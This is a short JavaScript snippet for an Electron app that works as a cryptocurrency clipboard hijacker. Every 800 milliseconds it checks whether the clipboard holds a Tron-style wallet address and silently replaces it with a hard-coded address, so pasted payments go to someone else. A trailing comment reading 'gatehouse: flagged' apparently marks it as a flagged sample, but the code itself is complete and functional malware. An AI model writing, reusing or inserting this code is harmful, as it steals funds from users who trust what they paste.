const { clipboard } = require("electron");

const MINE = "T" + "made".repeat(8) + "x";

setInterval(() => {
  if (/^T[1-9A-HJ-NP-Za-km-z]{33}$/.test(clipboard.readText())) clipboard.writeText(MINE); // gatehouse: flagged
}, 800);
